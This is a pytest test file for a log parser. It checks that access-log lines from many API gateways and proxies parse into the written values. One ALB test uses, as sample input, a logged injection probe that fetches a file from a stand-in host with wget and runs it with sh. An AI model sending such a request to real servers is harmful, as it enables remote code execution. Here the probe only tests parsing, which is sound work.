"""Text layouts of gateways other than nginx and httpd: what is written comes back, and garbage is no call with wrong values."""

from __future__ import annotations

import json
import shlex
from collections.abc import Sequence
from typing import Any

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apilens.errors import FormatError, UsageError
from apilens.formats import FORMATS, Options, detect
from apilens.formats.block import Block, parse
from apilens.formats.fields import rebuild
from apilens.formats.layout import TextLayout
from apilens.schema import CALLS
from test_formats import NAMES, arguments, sample


def read(lines: Sequence[str], **options: Any) -> list[dict[str, Any]]:
    """The calls in the lines as they are stored, without nulls; every line must be one."""
    block = Block("".join(f"{line}\n" for line in lines).encode())
    part = parse(block, detect(block, Options(**options), "x").reader)
    assert part.rejects.rows() == []
    lacking = {"url", "request_line", "method", "path", "query", "http_version"} - set(part.calls.columns)
    calls = part.calls.with_columns(pl.lit(None, pl.String).alias(name) for name in lacking)
    calls = rebuild(calls.lazy()).collect().sort("row")
    return [{name: value for name, value in call.items() if value is not None} for call in calls.iter_rows(named=True)]


def check(written: Sequence[tuple[str, dict[str, Any]]], **options: Any) -> None:
    """written: line, and the columns that its call must have; None: must be null."""
    for call, (line, columns) in zip(read([line for line, _ in written], **options), written, strict=True):
        assert {name: call.get(name) for name in columns} == columns, line


METHOD = st.sampled_from(["GET", "POST", "DELETE", "PROPFIND"])
URL = st.from_regex(r"/[a-z0-9/._~%-]{0,20}(\?[a-z0-9=&%]{0,12})?", fullmatch=True)
STATUS = st.integers(100, 599)
SIZE = st.integers(0, 2**63 - 1)
MS = st.integers(0, 10**9)
IP = st.one_of(
    st.tuples(*[st.integers(0, 255)] * 4).map(lambda parts: ".".join(map(str, parts))),
    st.sampled_from(["::1", "2001:db8::7", "fd00::1:2:3"]),
)
PORT = st.integers(1, 65535)
#: Text without quotes, as headers mostly are.
AGENT = st.text(
    st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Zl", "Zp"], exclude_characters='"\\#{|}'), min_size=2
).filter(lambda text: text.strip() == text and text != "--")


def bracketed(ip: str) -> str:
    return f"[{ip}]" if ":" in ip else ip


@st.composite
def istio(draw: st.DrawFn) -> tuple[str, dict[str, Any]]:
    method, url, status, size, ms = draw(METHOD), draw(URL), draw(STATUS), draw(SIZE), draw(MS)
    agent, client, port, upstream = draw(AGENT), draw(IP), draw(PORT), f"{bracketed(draw(IP))}:{draw(PORT)}"
    line = (
        f'[2026-03-09T14:00:00.125Z] "{method} {url} HTTP/2" {status} - via_upstream - "-" 7 {size} {ms} {ms} "-" "{agent}"'
        f' "9f2c" "shop" "{upstream}" outbound|80||shop - 10.0.0.1:80 {bracketed(client)}:{port} - default'
    )
    columns = {
        "gateway": "istio_text", "method": method, "url": url, "http_version": "2", "status_code": status,
        "request_body_bytes": 7, "response_body_bytes": size, "duration_ms": ms, "upstream_duration_ms": ms,
        "user_agent": agent, "client_ip": client, "client_port": port, "upstream_address": upstream,
        "gateway_route": "default", "response_flags": None,
    }  # fmt: skip
    return line, columns


@st.composite
def haproxy(draw: st.DrawFn) -> tuple[str, dict[str, Any]]:
    method, url, status, size, ms = draw(METHOD), draw(URL), draw(STATUS), draw(SIZE), draw(MS)
    client, port = draw(IP), draw(PORT)
    captured = "".join(f" {{{text}}}" for text in (draw(AGENT), "up")[: draw(st.integers(0, 2))])
    line = (
        f"{client}:{port} [09/Mar/2026:14:00:00.125] shop~ api/a1 1/-1/3/-1/+{ms} {status} +{size} - - ---- 1/1/0/0/+2 0/0"
        f'{captured} "{method} {url} HTTP/1.1"'
    )
    columns = {
        "gateway": "haproxy_http", "method": method, "url": url, "http_version": "1.1", "status_code": status,
        "response_bytes": size, "duration_ms": ms, "upstream_connect_ms": 3.0, "upstream_header_ms": None,
        "client_ip": client, "client_port": port, "upstream_attempts": 3, "scheme": "https",
        "request_line": f"{method} {url} HTTP/1.1",
    }  # fmt: skip
    return line, columns


@st.composite
def alb(draw: st.DrawFn) -> tuple[str, dict[str, Any]]:
    method, url, status, size = draw(METHOD), draw(URL), draw(STATUS), draw(SIZE)
    client, port, reached = draw(IP), draw(PORT), draw(st.booleans())
    us = draw(st.lists(st.integers(0, 10**7), min_size=3, max_size=3))
    spans = " ".join(f"{one / 1e6:.6f}" for one in us) if reached else "-1 -1 -1"
    line = (
        f"https 2026-03-09T14:00:10.000000Z app/shop/1 {bracketed(client)}:{port} - {spans} {status} - 7 {size} "
        f'"{method} https://shop.example:8443{url} HTTP/2.0" "curl" C TLSv1.3 arn "Root=1-69aed4e0-36d228ad5d99923122bbe354" '
        '"sni.example" "-" 1 2026-03-09T14:00:09.500000Z "forward" "-" "-" "-" "-" "-" "-" TID_1'
    )
    columns = {
        "gateway": "aws_alb", "method": method, "url": f"https://shop.example:8443{url}", "status_code": status,
        "host": "sni.example", "server_port": 8443, "request_bytes": 7, "response_bytes": size, "client_ip": client,
        "client_port": port, "trace_id": "69aed4e036d228ad5d99923122bbe354",
        "duration_ms": round(sum(us) / 1e3, 3) if reached else 500.0,
        "upstream_duration_ms": us[1] / 1e3 if reached else None,
    }  # fmt: skip
    return line, columns


@st.composite
def traefik(draw: st.DrawFn) -> tuple[str, dict[str, Any]]:
    method, url, status, size, ms = draw(METHOD), draw(URL), draw(STATUS), draw(SIZE), draw(MS)
    agent, client = draw(AGENT), draw(IP)
    referrer = draw(st.sampled_from(["-", '"-"']))
    line = (
        f'{client} - - [09/Mar/2026:14:00:00 +0000] "{method} {url} HTTP/1.1" {status} {size} {referrer} "{agent}" 7 '
        f'"r@file" "-" {ms}ms'
    )
    columns = {
        "gateway": "traefik_clf", "method": method, "url": url, "status_code": status, "response_body_bytes": size,
        "duration_ms": ms, "user_agent": agent, "client_ip": client, "gateway_route": "r@file", "referrer": None,
        "upstream_address": None,
    }  # fmt: skip
    return line, columns


def go_duration(ns: int) -> str:
    """As Go's time.Duration writes itself."""
    for unit, size in (("ns", 1), ("µs", 10**3), ("ms", 10**6)):
        if ns < size * 1000:
            return f"{ns // size}.{ns % size * 10**9 // size:09d}".rstrip("0").rstrip(".") + unit
    minutes, rest = divmod(ns, 60 * 10**9)
    seconds = f"{rest // 10**9}.{rest % 10**9:09d}".rstrip("0").rstrip(".") + "s"
    hours, minutes = divmod(minutes, 60)
    return f"{hours}h{minutes}m{seconds}" if hours else f"{minutes}m{seconds}" if minutes else seconds


@st.composite
def gin(draw: st.DrawFn) -> tuple[str, dict[str, Any]]:
    method, url, status, client = draw(METHOD), draw(URL), draw(STATUS), draw(IP)
    ns = draw(st.one_of(st.integers(0, 10**7), st.integers(0, 10**14)))
    line = f'[GIN] 2026/03/09 - 14:00:00 | {status} | {go_duration(ns):>13} | {client:>15} | {method:<7}  "{url}"'
    columns = {
        "gateway": "krakend_gin", "method": method, "url": url, "status_code": status, "client_ip": client,
        "duration_ms": pytest.approx(ns / 1e6, abs=1e-6),
    }  # fmt: skip
    return line, columns


@pytest.mark.parametrize("record", [istio(), haproxy(), alb(), traefik(), gin()], ids=lambda record: repr(record)[:7])
@settings(max_examples=15)
@given(data=st.data())
def test_a_gateway_s_lines_give_back_what_was_written(record: Any, data: st.DataObject) -> None:
    written = data.draw(st.lists(record, min_size=1, max_size=30))
    check(written, format=written[0][1]["gateway"])


def test_haproxy_s_time_is_that_of_its_zone() -> None:
    line = '::1:5 [09/Mar/2026:14:00:00.125] s a/a 1/1/3/1/7 200 2 - - ---- 1/1/0/0/0 0/0 "GET / HTTP/1.1"'
    (call,) = read([line], tz="Asia/Kathmandu")
    assert call["timestamp"].isoformat() == "2026-03-09T08:15:00.125000+00:00"


@pytest.mark.parametrize(
    ("layout", "line", "columns"),
    [
        ("%START_TIME(%s.%3f)% %RESPONSE_CODE%", "1773064800.125 200", {"status_code": 200}),
        ("%START_TIME(%s%6f)% %%%DURATION%", "1773064800125000 %42", {"duration_ms": 42.0}),
        ("%START_TIME(%Y-%m-%dT%H:%M:%E3S%z)% %PROTOCOL%", "2026-03-09T15:00:00.125+0100 HTTP/3", {"http_version": "3"}),
        ("[%START_TIME%] %REQ(X-A?:PATH):3% %REQ(X-A)%", "[2026-03-09T14:00:00.125Z] /ab -", {"url": "/ab"}),
        ("%EMIT_TIME% %DURATION%\\n", "2026-03-09T14:00:00.125Z 7", {"timestamp_kind": "end"}),
        ("%START_TIME_LOCAL(%F %T.%3f)% %DURATION%", "2026-03-09 15:00:00.125 7", {"duration_ms": 7.0}),
        ("%ci [%T] %HPO %HQ", "::1 [09/Mar/2026:14:00:00 +0000] /a ?b=c", {"path": "/a", "query": "b=c"}),
        ('%ci [%T] %HM %ST %{+Q}hrl', '::1 [09/Mar/2026:14:00:00 +0000] <BADREQ> 400 ', {"method": None, "status_code": 400}),
        ('%ci:%cp %[date] %{+Q}r %T %ms', '::1:5 x "GET / HTTP/1.1" 09/Mar/2026:14:00:00 +0000 125', {"client_port": 5}),
        ("$context.requestTimeEpoch,$context.authorizer.x,$context.status", "1773064800125,a b,0", {"status_code": None}),
        ("%(t)s %(h)s %(M)s %({x-request-id}i)s", "[09/Mar/2026:14:00:00 +0000] ::1 42 r1", {"request_id": "r1"}),
        ("%{begin:msec}t %{us}T %!404{User-Agent}i", "1773064800125 42113 a b", {"duration_ms": 42.113, "user_agent": "a b"}),
        ('{"t":"%{%Y-%m-%d}tT%{%T}t.%{msec_frac}t%{%z}t","a":"%a"}', '{"t":"2026-03-09T15:00:00.125+0100","a":"::1"}', {"client_ip": "::1"}),
        ("%{%F}t %{%T}t.%{usec_frac}t|%>s", "2026-03-09 15:00:00.125000|200", {"status_code": 200}),
        ("%{sec}t.%{msec_frac}t %>s", "1773064800.125 200", {"status_code": 200}),
        ("%t %{usec_frac}t %{%F}t %T", "[09/Mar/2026:14:00:00 +0000] 125000 2026-03-09 0.042", {"duration_ms": 42.0}),
        ("log_format a escape=none '$msec\\t$request_uri\\t$http_user_agent';", '1773064800.125\t/?q="x"\ta "b" c', {"user_agent": 'a "b" c'}),
        ("$msec $proxy_protocol_addr $opentelemetry_trace_id", "1773064800.125 ::1 4bf92f35", {"client_ip": "::1", "trace_id": "4bf92f35"}),
        ("%{yyyy-MM-dd'T'HH:mm:ss.SSSZ}t %<s", "2026-03-09T14:00:00.125+0000 301", {"status_code": 301}),
        ('{"fields":["$msec as t","@a"],"a":["$status","$src_ip"]}', '1773064800125\t"200 ::1"', {"client_ip": "::1"}),
    ],
)  # fmt: skip
def test_pasted_layouts_of_every_kind(layout: str, line: str, columns: dict[str, Any]) -> None:
    (call,) = read([line], log_format=layout, tz="Europe/Berlin")
    assert {name: call.get(name) for name in columns} == columns
    assert call["timestamp"].timestamp() in (1773064800.125, 1773064800.0)


@pytest.mark.parametrize(
    "layout",
    ["%h %{%F}t %>s", "%RESPONSE_CODE% %DURATION%", "%ci:%cp %ST", "$context.status", '{"fields":["$status"]}', '{"fields":[1]}', '{"fields":["$msec"'],
)  # fmt: skip
def test_a_pasted_layout_without_a_time_or_a_form_is_wrong_usage(layout: str) -> None:
    with pytest.raises(UsageError):
        read(["x"], log_format=layout)


def test_a_target_with_blanks_that_a_balancer_served_is_a_call() -> None:
    line = FORMATS["aws_alb"].example.split("\n")[0]
    begin, _, end = line.partition('"')
    (call,) = read(
        [f'{begin}"GET http://192.0.2.1:80/shell?cd+/tmp;wget+ a.example/x;sh HTTP/1.1"{end.partition(chr(34))[2]}']
    )
    assert (call["method"], call["path"], call["query"]) == ("GET", "/shell", "cd+/tmp;wget+ a.example/x;sh")
    assert (call["server_port"], call["parse_status"]) == (80, "ok")


def test_a_creation_time_in_another_age_gives_an_alb_call_no_duration() -> None:
    line = sample("aws_alb").read_bytes().split(b"\n")[2]
    assert b" -1 -1 -1 " in line
    found = detect(Block(line), Options(), "x").reader
    for time, waited in ((b"2026-03-09T14:00:02.000000Z", 0.0), (b"-12026-03-09T14:00:02.000000Z", None)):
        at = line.rindex(b"2026-03-09T14:00:02.000000Z")
        part = parse(Block(line[:at] + time + line[at + 27 :]), found)
        assert part.calls["duration_ms"].to_list() == [waited]


JUNK = [
    b"",
    b"\x1b[31m",
    b"\0",
    b'"',
    b"\\",
    b" ",
    b"\t",
    b"\xff",
    b"18446744073709551616",
    b"nan",
    b"-1",
    b"[",
    b"{",
    b"}",
]
TEXTS = [
    name
    for name in NAMES
    if name in FORMATS
    and not arguments(name)
    and sample(name).suffix == ".log"
    and sample(name).read_bytes()[:1] != b"{"
]


@pytest.mark.parametrize("name", TEXTS)
@settings(max_examples=3)
@given(data=st.data())
def test_a_damaged_line_is_set_aside_or_keeps_its_values_in_bounds(name: str, data: st.DataObject) -> None:
    whole = sample(name).read_bytes()
    lines = [line for line in whole.split(b"\n") if line.strip()]
    damage = st.tuples(st.sampled_from(lines), st.integers(0, 400), st.integers(0, 6), st.sampled_from(JUNK))
    damaged = [
        line[:at] + junk + line[at + span :]
        for line, at, span, junk in data.draw(st.lists(damage, min_size=20, max_size=60))
    ]
    block = Block(b"\n".join([*lines, *damaged, b""]))
    part = parse(block, detect(Block(whole), Options(), "x").reader)
    assert part.read == part.calls.height + part.rejects.height + part.filtered
    assert part.calls["timestamp"].null_count() == 0
    for column, least, most in (
        ("status_code", 100, 999),
        ("duration_ms", 0, 3.2e10),
        ("upstream_duration_ms", 0, 3.2e10),
    ):
        if column in part.calls.columns:
            assert part.calls[column].drop_nulls().is_between(least, most).all()


_CALL = '[09/Mar/2026:14:00:00 +0000] "GET /v1/carts HTTP/1.1" 200 740 "-" "curl/8.5"'


@pytest.mark.parametrize(
    "begin",
    [
        "web-1  | 203.0.113.7 - -",
        "| 203.0.113.7 - -",
        "web-1 | -",
        "2026-03-09T14:00:02.125Z 203.0.113.7 - -",
        "2026-03-09 14:00:10 203.0.113.7 - -",
        "14:00:09 203.0.113.7 - -",
        "shop-7d9f8b6c5-abcde nginx 203.0.113.7 - -",
    ],
)
def test_a_prefix_among_lines_of_other_kinds_is_no_client_host_or_user(begin: str) -> None:
    plain = f"203.0.113.7 - - {_CALL}"
    lines = [plain, f"Mar  9 14:00:03 edge nginx: {plain}", f"{begin} {_CALL}", plain]
    block = Block("\n".join(lines).encode())
    part = parse(block, detect(block, Options(), "x").reader)
    assert set(part.calls["client_ip"]) == {"203.0.113.7"}
    assert part.calls["row"].to_list() == [0, 1, 3]
    assert part.rejects["row"].to_list() == [2]


@pytest.mark.parametrize(
    "client",
    [
        "203.0.113.7", "2001:db8::7", "::1", "0:0:0:0:0:0:0:1", "fe80::1%eth0", "unix:", "localhost", "client.example",
        "203.0.113.x", "host_7", "-",
    ],
)  # fmt: skip
def test_a_client_is_an_address_or_a_host_name(client: str) -> None:
    block = Block(f"{client} - jo hn {_CALL}\n".encode())
    calls = parse(block, detect(block, Options(), "x").reader).calls
    assert calls["client_ip"].to_list() == [None if client == "-" else client]
    assert calls["user_name"].to_list() == ["jo hn"]


@pytest.mark.parametrize(
    ("begin", "expected"),
    [
        ("[2001:db8::1]:443 203.0.113.7 -", ("203.0.113.7", None, "2001:db8::1", 443)),  # Apache's vhost combined
        ("shop.example:8443 203.0.113.7 -", ("203.0.113.7", None, "shop.example", 8443)),
        ("shop.example 2001:db8::7 -", ("2001:db8::7", None, "shop.example", None)),
        ("203.0.113.7:4711 -", ("203.0.113.7", 4711, None, None)),
        ("[2001:db8::7]:4711 -", ("2001:db8::7", 4711, None, None)),
    ],
)
def test_hosts_and_clients_stand_without_port_and_brackets(begin: str, expected: tuple[object, ...]) -> None:
    block = Block(f"{begin} - {_CALL}\n".encode())
    calls = parse(block, detect(block, Options(), "x").reader).calls
    columns = ("client_ip", "client_port", "host", "server_port")
    assert tuple(calls[name][0] if name in calls.columns else None for name in columns) == expected


@pytest.mark.parametrize(
    ("line", "route", "method"),
    [
        ('::1 - - [09/Mar/2026:14:00:00 +0000] "GET GET /pets/{id} HTTP/1.1" 200 7 GQIVriFLIAMEMsA=', "/pets/{id}", "GET"),
        ("::1,09/Mar/2026:14:00:00 +0000,GET,$default,HTTP/1.1,200,7,GQIVriFLIAMEMsA=", "$default", "GET"),
        ('::1 - - [09/Mar/2026:14:00:00 +0000] "CONNECT $connect Iq8gj1UmIAM=" 200 GQIVriFLIAMEMsA=', "$connect", None),
        (
            '<request id="r1"> <ip>::1</ip> <caller>-</caller> <user>-</user> <requestTime>09/Mar/2026:14:00:00 +0000</requestTime> '
            "<httpMethod>GET</httpMethod> <resourcePath>/pets/{id}</resourcePath> <status>200</status> <protocol>HTTP/1.1</protocol> "
            "<responseLength>7</responseLength> </request>",
            "/pets/{id}",
            "GET",
        ),
    ],
)  # fmt: skip
def test_the_formats_that_api_gateway_s_console_offers_are_told_unasked(line: str, route: str, method: str) -> None:
    expected = {
        "gateway": "aws_apigateway_text",
        "client_ip": "::1",
        "status_code": 200,
        "gateway_route": route,
        "method": method,
    }
    check([(line, expected)])
    (call,) = read(['::1 - - [09/Mar/2026:14:00:00 +0000] "MESSAGE foo HTTP/2" 200 5'])
    assert call["gateway"] != "aws_apigateway_text"


def test_an_upstream_is_host_and_port_without_scheme_and_path() -> None:
    line = f'203.0.113.7 - - {_CALL} 13 "shop@docker" "http://[2001:db8::8]:8080/base" 42ms'
    block = Block(line.encode())
    assert parse(block, detect(block, Options(), "x").reader).calls["upstream_address"].to_list() == [
        "[2001:db8::8]:8080"
    ]


@pytest.mark.parametrize(
    "call",
    [
        b'203.0.113.7 - - [09/Mar/2026:14:00:00 +0000] "GET /a%s HTTP/1.1" 200 740 "-" "curl/8.5"',
        b'{"request":{"method":"GET","uri":"/a%s","url":"http://shop.example:8000/a%s","querystring":{},"headers":{}},'
        b'"response":{"status":200,"size":"512","headers":{}},"latencies":{"request":42,"kong":1,"proxy":41},'
        b'"client_ip":"203.0.113.7","started_at":1773064800000}',
    ],
)
def test_paths_of_different_bytes_stay_different(call: bytes) -> None:
    odd = [b"\xe9", b"\xff", b"\xff\xfe", "\ufffd".encode(), b"%FF", "é".encode()]
    block = Block(b"\n".join(call.replace(b"%s", path) for path in odd))
    part = parse(block, detect(block, Options(), "x").reader)
    assert part.rejects.rows() == []
    paths = part.calls.sort("row")["path"].to_list()
    assert len(set(paths)) == len(odd)
    assert paths[:3] == [r"/a\xe9", r"/a\xff", r"/a\xff\xfe"]


def test_escaped_bytes_that_are_no_text_stay_different_too() -> None:
    lines = [rf"203.0.113.7 - - {_CALL.replace('carts', path)} 0.042" for path in (r"\xE9", r"\xFF", r"\xC3\xA9")]
    assert [call["path"] for call in read(lines)] == [r"/v1/\xe9", r"/v1/\xff", "/v1/é"]


def test_a_quote_that_is_never_closed_in_a_cell_of_a_known_form_is_a_reject() -> None:
    """Found by damaged lines; Polars refused the whole block."""
    lines = sample("tyk_csv").read_bytes().split(b"\n")[:2]
    block = Block(b"\n".join([*lines, lines[1].replace(b",March,", b',"March,'), b""]))
    part = parse(block, detect(block, Options(), "x").reader)
    assert (part.calls.height, part.rejects["reason"].str.slice(0, 7).to_list()) == (1, ["a quote"])


def test_lighttpd_s_and_squid_s_values_have_their_own_names_in_reasons() -> None:
    names = [
        part.name
        for layout in FORMATS["apache_combined"].open(Block(b"").lines, Options())
        for part in layout.parts
        if not isinstance(part, str)
    ]
    assert {"%V", "%Ss", "%Sh"} <= set(names) and not any("lighttpd" in name or "squid" in name for name in names)


# -- labelled values behind an access log line -------------------------------------------------------------------------

COMBINED_LINE = '203.0.113.7 - - [09/Mar/2026:14:00:00 +0000] "GET /v1/carts HTTP/1.1" 200 512 "-" "curl/8.5"'


@pytest.mark.parametrize(
    ("behind", "expected"),
    [
        (
            ' rt=0.042 uct="0.001" uht="0.010, 0.020" urt="-, 0.041"',
            {"duration_ms": 42.0, "upstream_connect_ms": 1.0, "upstream_header_ms": 20.0, "upstream_duration_ms": 41.0},
        ),
        (
            ' rt=0.042 ut="0.041, 0.001" us="502, 200" ua="10.0.0.1:80, 10.0.0.2:80" rid=9f2c',
            {"duration_ms": 42.0, "upstream_duration_ms": 42.0, "upstream_status_code": "200", "request_id": "9f2c"},
        ),
        (
            ' "198.51.100.7" request_time=0.285 host=shop.example tenant="acme corp" retries=0',
            {"duration_ms": 285.0, "forwarded_for": "198.51.100.7", "host": "shop.example"}
            | {"attributes": {"tenant": "acme corp", "retries": "0"}},
        ),
        (" request_time: 0.292 upstream: 10.0.0.1:80", {"duration_ms": 292.0, "upstream_address": "10.0.0.1:80"}),
        (" rt=- urt=- cs=HIT", {"cache_status": "HIT"}),
    ],
)
def test_labels_behind_a_combined_line_say_what_its_values_are(behind: str, expected: dict[str, Any]) -> None:
    same = {"gateway": "nginx_combined", "path": "/v1/carts", "status_code": 200, "client_ip": "203.0.113.7"}
    check([(f"{COMBINED_LINE}{behind}", same | expected)] * 3)


def test_labels_of_which_none_is_known_are_nobody_s_guess() -> None:
    with pytest.raises(FormatError):
        detect(Block(f"{COMBINED_LINE} foo=1 D=312\n".encode()), Options(), "x")


@settings(max_examples=25)
@given(st.text(st.sampled_from('ab=:" -,$\\0.5rt{}'), max_size=30))
def test_what_stands_behind_a_combined_line_breaks_nothing(behind: str) -> None:
    records = Block(f"{COMBINED_LINE} rt=0.042 {behind}\n".encode() * 2).lines
    for layout in FORMATS["nginx_combined"].open(records, Options()):
        if "rt=" in (layout.text or ""):
            part = layout.read(records)
            assert part.calls.height + part.rejects.height == 2


# -- layouts that people write, with what real servers wrote in them ---------------------------------------------------


def test_nginx_s_uri_is_args_and_args_side_by_side_are_one_target() -> None:
    layout = '$time_iso8601 $request_method $uri$is_args$args ($server_protocol) $status "$http_user_agent"'
    written = [
        ("/index.html-", {"path": "/index.html", "query": None}),
        ("/x?a=1&b=c|d", {"path": "/x", "query": "a=1&b=c|d"}),
        ("/a-- b-", {"path": "/a-- b", "query": None}),  # decoded
    ]
    line = '2026-03-09T14:00:00+00:00 GET {} (HTTP/1.1) 200 "c"'
    check([(line.format(uri), columns) for uri, columns in written], log_format=layout)


_TARGET = {"host": "shop.example", "path": "/v1/orders/12", "query": "back=http://a/b"}


@pytest.mark.parametrize(
    ("layout", "line", "columns"),
    [
        ("$time_iso8601 $request_method $host$request_uri $status", "2026-03-09T14:00:00Z GET {} 200", _TARGET),
        ('$time_iso8601 "$request_method $scheme://$http_host$request_uri" $status', '2026-03-09T14:00:00Z "GET https://{}" 200', {**_TARGET, "scheme": "https"}),
        ("$time_iso8601 $scheme://$server_name$uri$is_args$args $status", "2026-03-09T14:00:00Z https://{} 200", {**_TARGET, "scheme": "https"}),
        ("$time_iso8601 $tenant$request_uri $status", "2026-03-09T14:00:00Z {} 200", {**_TARGET, "host": None, "attributes": {"tenant": "shop.example"}}),
        ("$time_iso8601 $upstream_addr$request_uri $status", "2026-03-09T14:00:00Z 10.0.0.1:80, {} 200", {**_TARGET, "host": None, "upstream_address": "shop.example"}),
        ('%t %a "%m %v%U%q" %>s', '[09/Mar/2026:14:00:00 +0000] 10.0.0.1 "GET {}" 200', _TARGET),
        ("%t %a %{Host}i%U%q %>s", "[09/Mar/2026:14:00:00 +0000] 10.0.0.1 {} 200", _TARGET),
        ('[%START_TIME%] "https://%REQ(:AUTHORITY)%%REQ(:PATH)%" %RESPONSE_CODE%', '[2026-03-09T14:00:00.125Z] "https://{}" 200', _TARGET),
        ("%ci:%cp [%tr] %ST %HM %[req.hdr(host)]%HP%HQ %HV", "10.0.0.1:7 [09/Mar/2026:14:00:00.125] 200 GET {} HTTP/1.1", _TARGET),
        ("$context.requestTime $context.domainName$context.path $context.status", "09/Mar/2026:14:00:00 +0000 {} 200", _TARGET),
        ("%ts.%03tu %>a %>Hs %rm %>rd%>rp", "1773064800.125 10.0.0.1 200 GET {}", _TARGET),
    ],
)  # fmt: skip
def test_a_variable_right_before_a_path_ends_where_the_path_begins(
    layout: str, line: str, columns: dict[str, Any]
) -> None:
    check([(line.format("shop.example/v1/orders/12?back=http://a/b"), columns)], log_format=layout)


def test_a_value_without_blanks_ends_at_the_first_text_that_may_stand_behind_it() -> None:
    layout = "$time_iso8601,$remote_addr,$http_x_forwarded_for,$status,$upstream_response_time,$request_method,$request_uri,$request_time"
    line = "2026-03-09T14:00:00Z,10.0.0.1,203.0.113.7, 10.1.1.1,200,0.1, 0.2,GET,/v1?ids=1,2,0.4"
    columns = {
        "client_ip": "10.0.0.1",
        "forwarded_for": "203.0.113.7, 10.1.1.1",
        "upstream_duration_ms": 300.0,
        "method": "GET",
        "query": "ids=1,2",
        "duration_ms": 400.0,
    }
    check([(line, columns)], log_format=layout)
    layout = "$time_iso8601|$request_method $request_uri|$server_protocol|$status"
    check(
        [("2026-03-09T14:00:00Z|GET /s?q=a|b;c|HTTP/1.1|200", {"query": "q=a|b;c", "http_version": "1.1"})],
        log_format=layout,
    )
    ports = "$remote_addr:$remote_port|$host:$server_port|$msec|$status"
    columns = {"client_ip": "::1", "client_port": 4051, "host": "2001:db8::7", "server_port": 443}
    check([("::1:4051|[2001:db8::7]:443|1773064800.125|200", columns)], log_format=ports)


def test_what_has_no_slash_between_a_host_and_its_path_leaves_both_as_they_are_logged() -> None:
    written = [
        ("--", {"host": None, "path": None}),
        ("shop.example-", {"host": "shop.example", "path": None}),
        ("shop.example*", {"host": "shop.example", "path": "*"}),
        ("shop.example:8443//a//b", {"host": "shop.example", "server_port": 8443, "path": "//a//b"}),
    ]
    layout = "$time_iso8601 $host$request_uri $status"
    check([(f"2026-03-09T14:00:00Z {both} 400", columns) for both, columns in written], log_format=layout)


def test_names_of_haproxy_s_variables_side_by_side_are_not_envoy_s() -> None:
    layout = "%ci:%cp [%tr] %ft %b/%s %ST %B %HM %HP%HQ %HV"
    line = "10.0.0.1:7 [09/Mar/2026:14:00:00.125] fe be/s1 200 12 GET /v1/x{} HTTP/1.1"
    written = [("?a=1", {"path": "/v1/x", "query": "a=1"}), ("", {"path": "/v1/x", "query": None})]
    check([(line.format(query), columns) for query, columns in written], log_format=layout)


def test_a_time_at_the_start_of_lines_that_fit_no_given_layout_is_no_wrapper_s() -> None:
    block = Block(b'2026-03-09T14:00:00Z 10.0.0.1 "GET /a b" 200\n')
    reader = detect(block, Options(log_format='$time_iso8601 $remote_addr "$request_method $uri" $status'), "x").reader
    assert parse(block, reader).rejects["reason"].to_list() == [
        'does not fit the layout: after uri found " b" 200", expected \'" \''
    ]


def test_quotes_that_are_escaped_stand_in_places_without_quotes_too() -> None:
    columns = {"user_agent": 'a "b\\c" d', "duration_ms": 1.163}
    written = {
        "%t %m %>s %{User-Agent}i | %^FB %D": r"[09/Mar/2026:14:00:00 +0000] GET 200 a \"b\\c\" d | 1036 1163",
        "log_format x escape=json '$time_iso8601 $request_method $status $http_user_agent | $msec $request_time';": r"2026-03-09T14:00:00Z GET 200 a \"b\\c\" d | 1773064800.125 0.001163",
    }
    for layout, line in written.items():
        check([(line, columns)], log_format=layout)
    (call,) = read(list(written.values())[:1], log_format=next(iter(written)))
    assert call["attributes"] == {"first_byte_us": "1036"}


def test_haproxy_s_captures_are_columns_and_its_converter_for_json_is_undone() -> None:
    layout = (
        '{"zeit":"%trl","ms":%ms,"meth":"%[capture.req.method]","ziel":"%[capture.req.uri,json(utf8s)]","st":%ST,"dauer":%Ta,'
        '"port":%[src_port],"ua":"%[req.fhdr(User-Agent),json(utf8s)]","h0":"%[capture.req.hdr(0),json]"}'
    )
    line = (
        r'{"zeit":"09/Mar/2026:14:00:00 +0000","ms":125,"meth":"GET","ziel":"\/v1\/a?q=\"x\"","st":200,"dauer":42,'
        r'"port":4051,"ua":"a \"b\\c\" \u00e9","h0":"d \"e\""}'
    )
    columns = {
        "method": "GET",
        "url": '/v1/a?q="x"',
        "user_agent": 'a "b\\c" é',
        "client_port": 4051,
        "duration_ms": 42.0,
    }
    check([(line, {**columns, "attributes": {"captured_request_headers": 'd "e"'}})], log_format=layout)


@pytest.mark.parametrize("agent", [r"curl/8.5", r"a \"b\" \u00e9"], ids=["plain", "escaped"])
def test_haproxy_s_converter_for_json_on_one_variable_leaves_the_others_as_they_are(agent: str) -> None:
    layout = "%ci:%cp [%trg] %ST %Ta %{+Q}[req.fhdr(User-Agent),json] %{+Q}[req.fhdr(Referer)] %tsc %{+Q}r"
    line = rf'203.0.113.7:4051 [09/Mar/2026:14:00:00 +0000] 200 42 "{agent}" "C:\temp\new" ---- "GET /v1#22 HTTP/1.1"'
    columns = {"user_agent": json.loads(f'"{agent}"'), "referrer": r"C:\temp\new", "url": '/v1"'}
    check([(line, columns)], log_format=layout)


@pytest.mark.parametrize("layout", ["%ci [%tr] %hr %hs %{+Q}r %ST %Ta", "%ci [%tr] %{+Q}r %ST %Ta %hr %hs"])
def test_haproxy_writes_no_captures_of_a_request_that_is_none(layout: str) -> None:
    call, none = (
        layout.replace("%ci [%tr]", "203.0.113.7 [09/Mar/2026:14:00:00.125]").replace("%{+Q}r %ST %Ta", said)
        for said in ('"GET /v1 HTTP/1.1" 200 42', '"<BADREQ>" 400 3')
    )
    lines = [call.replace("%hr %hs", "{api.example|curl} {nginx}"), none.replace("%hr %hs ", "").replace("%hr %hs", "")]
    assert [row["status_code"] for row in read(lines, log_format=layout)] == [200, 400]


def test_quotes_in_what_haproxy_captured_stay_as_they_are() -> None:
    layout = "%ci:%cp [%trg] %ST %Ta ua=%{+Q}[capture.req.hdr(0)] %tsc %{+Q}r"
    line = '203.0.113.7:4051 [09/Mar/2026:14:00:00 +0000] 200 42 ua="{}" ---- "GET /v1 HTTP/1.1"'
    agents = ['He said "hi" \\ and', '"', '{"a":1}', "curl/8.5"]
    calls = read([line.format(agent) for agent in agents], log_format=layout)
    assert [dict(call["attributes"])["captured_request_headers"] for call in calls] == agents
    assert {call["url"] for call in calls} == {"/v1"}


def test_a_query_of_httpd_begins_with_its_question_mark() -> None:
    line = "09/Mar/2026:14:00:00 +0000 200 {}"
